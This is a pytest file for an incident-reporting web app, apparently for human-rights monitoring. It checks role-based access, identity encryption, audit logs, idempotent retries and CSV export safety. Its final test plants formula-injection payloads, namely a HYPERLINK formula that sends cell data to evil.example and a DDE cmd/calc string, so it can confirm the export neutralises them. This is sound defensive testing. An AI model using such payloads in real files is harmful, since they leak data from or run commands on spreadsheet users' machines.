"""Every denial of incident reports, proven on SQLite and PostgreSQL: who may see which
report and its identities, what reaches the events store, exports, retried submissions."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import text

from tocsin.events import list_events
from tocsin.store import Database, list_audit

NAMES = {
    "victims": "Zawadi Mbeki-Ouattara",
    "witnesses": "Issa Kongbo-Ndala",
    "sources": "Pastor Ferdinand Yakite +236 7000 0000",
}


def report_data(sensitivity: str, **extra: str) -> dict[str, str]:
    return {
        "iso3": "CAF",
        "start_date": "2025-01-10",
        "event_type": "killing",
        "admin1": "Ouaka",
        "location": "Bambari",
        "perpetrator": "Armed group X",
        "perpetrator_kind": "militia",
        "victim_group": "Fulani herders",
        "victim_kind": "civilians",
        "fatalities_best": "4",
        "civilian_deaths": "4",
        "narrative": "Attack on a market at dawn.",
        "sensitivity": sensitivity,
        "idempotency_key": uuid.uuid4().hex,
        **NAMES,
        **extra,
    }


def submit(post_form: Any, username: str, sensitivity: str, **extra: str) -> str:
    response = post_form(
        username, "/reports", report_data(sensitivity, **extra), follow_redirects=False
    )
    assert response.status_code == 303, response.text
    return str(response.headers["location"]).rsplit("/", 1)[1]


def leaks(text_: str) -> bool:
    return any(name in text_ for name in NAMES.values())


def test_monitor_cannot_read_another_monitors_report(
    clients: dict[str, TestClient], post_form: Any
) -> None:
    report_id = submit(post_form, "monitor", "restricted", narrative="Only for monitor one.")
    mine = clients["monitor"].get(f"/reports/{report_id}")
    assert mine.status_code == 200 and "Only for monitor one." in mine.text
    other = clients["monitor2"]
    assert other.get(f"/reports/{report_id}").status_code == 404
    assert other.get(f"/reports/{report_id}.json").status_code == 404
    assert other.get(f"/api/v1/reports/{report_id}").status_code == 404
    listed = other.get("/api/v1/reports", params={"q": "monitor one", "limit": 500}).json()
    assert report_id not in {r["id"] for r in listed["items"]}
    assert "Only for monitor one." not in other.get("/reports", params={"q": "monitor"}).text
    # a monitor also cannot read a public report of another monitor: monitors see their own
    public_id = submit(post_form, "monitor", "public")
    assert other.get(f"/reports/{public_id}").status_code == 404
    assert other.get("/reports/export.csv").status_code == 403


def test_a_guessed_id_and_a_forbidden_id_look_the_same(
    clients: dict[str, TestClient], post_form: Any
) -> None:
    restricted = submit(post_form, "analyst", "restricted")
    for username in ("viewer", "reviewer", "monitor2"):
        client = clients[username]
        forbidden = client.get(f"/api/v1/reports/{restricted}")
        guessed = client.get(f"/api/v1/reports/{uuid.uuid4().hex[:24]}")
        assert forbidden.status_code == guessed.status_code == 404
        assert forbidden.json() == guessed.json()


def test_sensitivity_decides_what_viewers_and_reviewers_see(
    clients: dict[str, TestClient], post_form: Any
) -> None:
    ids = {s: submit(post_form, "analyst", s) for s in ("public", "internal", "restricted")}
    expected = {
        "viewer": {"public"},
        "reviewer": {"public", "internal"},
        "analyst": {"public", "internal", "restricted"},
    }
    for username, allowed in expected.items():
        client = clients[username]
        listed = {r["id"] for r in client.get("/api/v1/reports?limit=500").json()["items"]}
        for sensitivity, report_id in ids.items():
            visible = sensitivity in allowed
            assert (report_id in listed) is visible, (username, sensitivity)
            status = client.get(f"/reports/{report_id}").status_code
            assert status == (200 if visible else 404), (username, sensitivity)
        # filtering by sensitivity cannot widen what is visible
        filtered = client.get("/api/v1/reports", params={"sensitivity": "restricted"}).json()
        assert all("restricted" in allowed for _ in filtered["items"])


def test_viewers_and_monitors_never_see_identities(
    clients: dict[str, TestClient], post_form: Any
) -> None:
    public_id = submit(post_form, "monitor", "public")
    for username in ("viewer", "monitor", "reviewer"):
        client = clients[username]
        for path in (
            f"/reports/{public_id}?identities=true",
            f"/reports/{public_id}.json?identities=true",
            f"/api/v1/reports/{public_id}?identities=true",
            "/api/v1/reports?limit=500",
            "/reports?limit=200",
        ):
            response = client.get(path)
            assert response.status_code == 200, (username, path)
            assert not leaks(response.text), (username, path)
        body = client.get(f"/api/v1/reports/{public_id}?identities=true").json()
        assert body["has_identities"] is True and body["identities"] is None


def test_analysts_see_identities_only_on_request_and_it_is_audited(
    app: FastAPI, clients: dict[str, TestClient], post_form: Any
) -> None:
    report_id = submit(post_form, "monitor", "restricted")
    analyst = clients["analyst"]
    assert not leaks(analyst.get(f"/reports/{report_id}").text)
    shown = analyst.get(f"/api/v1/reports/{report_id}?identities=true").json()
    assert shown["identities"]["victims"] == [NAMES["victims"]]
    assert NAMES["witnesses"] in analyst.get(f"/reports/{report_id}?identities=true").text
    with app.state.tocsin.db.session() as session:
        entries = [(e.actor, e.action, e.target) for e in list_audit(session, limit=1000)]
    assert ("user:analyst", "report.identities.view", report_id) in entries
    assert ("user:analyst", "report.view", report_id) in entries
    assert ("user:monitor", "report.view", report_id) not in entries  # not viewed yet


def test_identities_are_ciphertext_in_the_database(
    app: FastAPI, post_form: Any, clients: dict[str, TestClient]
) -> None:
    report_id = submit(post_form, "monitor", "internal")
    db: Database = app.state.tocsin.db
    with db.engine.connect() as connection:
        row = (
            connection.execute(
                text("SELECT * FROM incident_reports WHERE public_id = :id"), {"id": report_id}
            )
            .mappings()
            .one()
        )
    assert row["identities_key_id"] == "k1"
    assert not leaks(" ".join(str(v) for v in row.values()))
    # the non-restricted report reached the events store, without any identity
    with db.session() as session:
        events = [e for e in list_events(session, iso3="CAF") if e.uid == f"field:{report_id}"]
    assert len(events) == 1 and not leaks(events[0].model_dump_json())


def test_restricted_reports_stay_out_of_the_events_store(app: FastAPI, post_form: Any) -> None:
    report_id = submit(post_form, "monitor", "restricted")
    with app.state.tocsin.db.session() as session:
        assert f"field:{report_id}" not in {e.uid for e in list_events(session, iso3="CAF")}


def test_exports_are_for_analysts_carry_no_identities_and_are_audited(
    app: FastAPI, clients: dict[str, TestClient], post_form: Any
) -> None:
    report_id = submit(post_form, "monitor", "restricted")
    for username in ("viewer", "reviewer", "monitor"):
        assert clients[username].get("/reports/export.csv").status_code == 403
    export = clients["analyst"].get("/reports/export.csv")
    assert export.status_code == 200 and report_id in export.text and not leaks(export.text)
    with app.state.tocsin.db.session() as session:
        actions = {(e.action, e.target) for e in list_audit(session, limit=1000)}
    assert ("report.export", report_id) in actions
    assert ("report.export.csv", None) in actions


def test_a_retried_submission_is_stored_once(
    app: FastAPI, post_form: Any, clients: dict[str, TestClient]
) -> None:
    writer = {
        "Authorization": "Bearer " + _token(post_form, "monitor", ["reports:write", "reports:read"])
    }
    api = TestClient(app, base_url="https://testserver")
    payload = {k: v for k, v in report_data("internal").items() if k != "idempotency_key"}
    payload = {k: v for k, v in payload.items() if k not in NAMES} | {
        "identities": {"witnesses": [NAMES["witnesses"]]}
    }
    headers = writer | {"Idempotency-Key": "retry-" + uuid.uuid4().hex}
    first = api.post("/api/v1/reports", json=payload, headers=headers)
    second = api.post("/api/v1/reports", json=payload, headers=headers)
    assert (first.status_code, second.status_code) == (201, 200)
    assert first.json()["id"] == second.json()["id"]
    form = report_data("public")
    one = post_form("monitor", "/reports", form, follow_redirects=False)
    two = post_form("monitor", "/reports", form, follow_redirects=False)
    assert one.headers["location"] == two.headers["location"]


def _token(post_form: Any, username: str, scopes: list[str]) -> str:
    page = post_form(username, "/account/tokens", {"name": "t", "scopes": scopes}).text
    start = page.index("tct_")
    return str(page[start : page.index("<", start)])


def test_a_report_dated_outside_the_event_span_is_refused_with_its_field(
    app: FastAPI, post_form: Any
) -> None:
    """A date the events store cannot hold (found by fuzzing: 0445-11-26 answered 500) is a
    422 naming the field, and nothing is stored."""
    writer = {
        "Authorization": "Bearer " + _token(post_form, "monitor", ["reports:write", "reports:read"])
    }
    api = TestClient(app, base_url="https://testserver")
    marker = "dated-" + uuid.uuid4().hex
    payload = {
        k: v for k, v in report_data("public").items() if k != "idempotency_key" and k not in NAMES
    } | {"start_date": "0445-11-26", "narrative": marker}
    refused = api.post(
        "/api/v1/reports", json=payload, headers=writer | {"Idempotency-Key": marker}
    )
    assert refused.status_code == 422, refused.text
    assert "start_date" in refused.text
    listed = api.get("/api/v1/reports", params={"q": marker}, headers=writer).json()
    assert listed["items"] == []


def test_a_public_report_without_a_place_leaves_the_country_page_working(
    post_form: Any, clients: dict[str, TestClient]
) -> None:
    """A field event with no admin1 or location is NaN in the events frame; the country
    page once answered 500 to every role until the event was removed."""
    report_id = submit(post_form, "monitor", "public", iso3="MLI", admin1="", location="")
    for role in ("viewer", "analyst"):
        response = clients[role].get("/countries/MLI.json")
        assert response.status_code == 200, response.text
        recent = {e["uid"]: e for e in response.json()["events"]["recent"]}
        assert recent[f"field:{report_id}"]["admin1"] is None
        assert recent[f"field:{report_id}"]["location"] is None
        assert clients[role].get("/countries/MLI").status_code == 200


def test_the_export_neutralises_formulas_planted_in_a_report(
    clients: dict[str, TestClient], post_form: Any
) -> None:
    planted = {
        "location": '=HYPERLINK("http://evil.example/?"&A2,"Bambari")',
        "perpetrator": "@SUM(1+1)*cmd|' /C calc'!A0",
        "narrative": "-2+3 attackers came at dawn",
        "victim_group": "+Fulani herders",
    }
    report_id = submit(post_form, "monitor", "public", **planted)
    export = clients["analyst"].get("/reports/export.csv")
    assert export.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(export.text))}
    row = rows[report_id]
    for column, value in planted.items():
        if column in row:
            assert row[column] == "'" + value, column
    assert row["location"].startswith("'=")
    assert row["fatalities_best"] == "4"  # numbers stay numbers
    assert not [v for r in rows.values() for v in r.values() if v and v[0] in "=+-@\t\r"]
